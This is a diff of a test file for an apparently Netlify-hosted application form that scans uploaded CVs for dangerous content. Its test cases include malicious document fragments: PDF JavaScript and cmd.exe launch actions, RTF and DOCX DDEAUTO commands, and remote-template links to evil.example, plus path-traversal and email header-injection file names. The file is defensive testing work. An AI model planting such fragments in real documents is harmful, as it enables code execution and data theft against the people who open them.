@@ -1,15 +1,16 @@
+import { deflateSync } from 'node:zlib';
 import { load } from 'cheerio';
 import { expect, test, vi } from 'vitest';
 import apply from '../../netlify/functions/apply.ts';
 import { type Message, reference } from '../../netlify/mail/message.ts';
 import { storeAndSend } from '../../netlify/mail/store-and-send.ts';
 import { CV_LIMIT } from '../../src/messages/application.ts';
-import { anOpenRole, content } from '../content.ts';
+import { anOpenRole, content as site } from '../content.ts';
 import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';
 
 vi.mock('../../netlify/mail/store-and-send.ts', () => ({ storeAndSend: vi.fn() }));
 
-const { fields, problems, responses } = content.applicationForm;
+const { fields, problems, responses } = site.applicationForm;
 const role = anOpenRole();
 
 const good = {
@@ -72,12 +73,23 @@ test.each([
   ['../../etc/passwd', PDF, 'CV etc passwd.pdf'],
   ['evil\r\nBcc: x@y.z', PDF, 'CV evil Bcc x y z.pdf'],
   ['x'.repeat(200), PDF, `CV ${'x'.repeat(80)}.pdf`],
+  [`${'x'.repeat(79)}𝔞`, PDF, `CV ${'x'.repeat(79)}𝔞.pdf`],
   ['Asha Rao', DOC, 'CV Asha Rao.doc'],
 ])('the CV of %j is attached with their name and its real type', async (name, bytes, attached) => {
   const { message } = await send(form({ name }, new File([bytes], 'C:\\fakepath\\cv.pdf.exe')));
   expect(message?.attachment?.filename).toBe(attached);
   expect(Buffer.from(message?.attachment?.content ?? '', 'base64')).toEqual(bytes);
   expect(message?.text).toContain(`CV: ${attached}, attached`);
+});
+
+test.each([0, 1])('a second, empty file field does not drop the CV (%i)', async (at) => {
+  const request = form({});
+  const body = await request.formData();
+  const parts = [new File([], ''), new File([PDF], 'cv.pdf')];
+  body.delete('cv');
+  for (const part of at === 0 ? parts : parts.reverse()) body.append('cv', part);
+  const { message } = await send(new Request(request.url, { method: 'POST', body }));
+  expect(message?.attachment?.filename).toBe('CV Asha Rao.pdf');
 });
 
 test.each([
@@ -127,26 +139,107 @@ test.each([
   expect(message?.text).toContain(`CV: CV Asha Rao.${extension}, attached\n`);
 });
 
+const RELS = 'word/_rels/settings.xml.rels';
 const relationship = (type: string, target: string) =>
   docx({
-    'word/_rels/settings.xml.rels': `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
+    [RELS]: `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
   });
+const document = (xml: string) => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
+const content = (xml: string) =>
+  odt('text', { 'content.xml': `<office:document>${xml}</office:document>` });
+const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}`, 'latin1');
+const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
+const TEMPLATE = 'Type="http://x/attachedTemplate"';
+const objectStream = Buffer.concat([
+  pdf('1 0 obj <</Type/Obj#53tm/Filter/FlateDecode>>stream\n'),
+  deflateSync('1 0 <</S/JavaScript/JS(x)>>'),
+  Buffer.from('\nendstream endobj'),
+]);
 
 test.each([
-  ['contains a script', Buffer.from('%PDF-1.7\n<< /S /J#61vaScript /JS (app.alert(1)) >>')],
-  ['starts another program', Buffer.from('%PDF-1.7\n<< /S/Launch /F (cmd.exe) >>')],
-  ['contains an embedded object', Buffer.from('{\\rtf1 {\\object{\\*\\objdata 0105}}}')],
+  ['contains a script', pdf('<< /S /J#61vaScript /JS (app.alert(1)) >>')],
+  ['contains a script', pdf('<< /S %x\n /JavaScript >>')],
+  ['contains a script', pdf('<< /Names 4 0 R/JS 5 0 R >>')],
+  ['contains a script', pdf('<< /AcroForm << /XFA [] >> >>')],
+  ['contains a script', objectStream],
+  ['starts another program', pdf('<< /S/Launch /F (cmd.exe) >>')],
+  ['contains an embedded object', pdf('<< /Type/EmbeddedFile >>')],
+  ['sends or fetches data', pdf('<< /S /SubmitForm /F (http://evil.example) >>')],
+  ['opens another document', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')],
+  ['is encrypted', pdf('trailer << /Encrypt 5 0 R >>')],
+  ['contains an embedded object', rtf('{\\object{\\*\\objdata 0105}}')],
+  ['contains an embedded object', rtf('{\\object\\objocx x}')],
+  ['loads a template', rtf('{\\*\\template http://evil.example/t.dotm}')],
+  ['loads a template', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}')],
+  ['asks another program', rtf("{\\field{\\*\\fldinst {\\b D}\\'44E\\u65?UTO c cmd}}")],
   ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
+  [
+    'asks another program',
+    Buffer.concat([compoundFile('WordDocument'), Buffer.from('\x13 DDEAUTO c', 'utf16le')]),
+  ],
   ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
-  ['loads a template', Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}')],
+  ['contains an embedded object', docx({ 'word/activeX/activeX1.bin': 'x' })],
+  ['contains an embedded object', document('<w:altChunk r:id="rId1"/>')],
   ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
   ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
+  ['loads a template', relationship('image', '//evil.example/x.png')],
+  [
+    'loads a template',
+    docx({ [RELS]: `<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />` }),
+  ],
+  [
+    'loads a template',
+    docx({ [RELS]: `<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>` }),
+  ],
+  [
+    'loads a template',
+    docx({
+      'word/_rels/footer9.xml.rels': `<Relationship ${TEMPLATE} Target="http://evil.example"/>`,
+    }),
+  ],
+  [
+    'asks another program',
+    document('<w:instrText>DD</w:instrText><w:instrText>EAUTO c</w:instrText>'),
+  ],
+  ['asks another program', document('<w:fldSimple w:instr="DDE c cmd"/>')],
+  ['contains a script', content('<script:event-listener xlink:href="x"/>')],
+  ['contains an embedded object', content('<draw:object-ole/>')],
+  ['loads a template', content('<draw:image xlink:href="https://evil.example/x.png"/>')],
+  ['asks another program', content('<text:dde-connection-decl/>')],
+  ['is too large', docx({ 'word/comments.xml': 'x'.repeat(3_000_000) })],
   ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
   ['', relationship('hyperlink', 'https://github.com/asha')],
-])('the mail says that a CV %s', async (warning, bytes) => {
+  ['', document('<w:t>DDE, scripts, https://github.com/asha</w:t>')],
+  ['', content('<text:a xlink:href="https://github.com/asha"/><office:scripts/>')],
+  ['', pdf('(HTML/CSS/JavaScript) /Link /URI (https://github.com/asha) /JSON /Launches')],
+  ['', rtf('{\\field{\\*\\fldinst HYPERLINK "https://github.com/asha"}} DDE')],
+])('the mail says that a CV %s (%#)', async (warning, bytes) => {
   const { message } = await send(form({}, new File([bytes], 'cv')));
   const [, line] = /^CV: CV Asha Rao\.[a-z]+, attached(.*)$/m.exec(message?.text ?? '') ?? [];
   expect(line).toMatch(warning ? `; it ${warning}` : /^$/);
+});
+
+test('a relationship in UTF-16 is read', async () => {
+  const rels = Buffer.from(
+    `\ufeff<Relationship ${TEMPLATE} Target="http://evil.example"/>`,
+    'utf16le',
+  );
+  const { message } = await send(form({}, new File([docx({ [RELS]: rels })], 'cv')));
+  expect(message?.text).toContain('it loads a template');
+});
+
+test('a document of 40 MB of relationships is looked through in under a second of processor time', async () => {
+  const parts = Object.fromEntries(
+    Array.from({ length: 200 }, (_, index) => [
+      `word/_rels/x${index}.rels`,
+      `<Relationship ${' '.repeat(200_000)}/>`,
+    ]),
+  );
+  const request = form({}, new File([docx(parts)], 'cv'));
+  const before = process.cpuUsage();
+  const { message } = await send(request);
+  expect(process.cpuUsage(before).user).toBeLessThan(1_000_000);
+  expect(message?.text).toContain('it is too large to be looked through');
 });
 
 test.each([['pdf', PDF], ...Object.entries(PHOTOS)])(
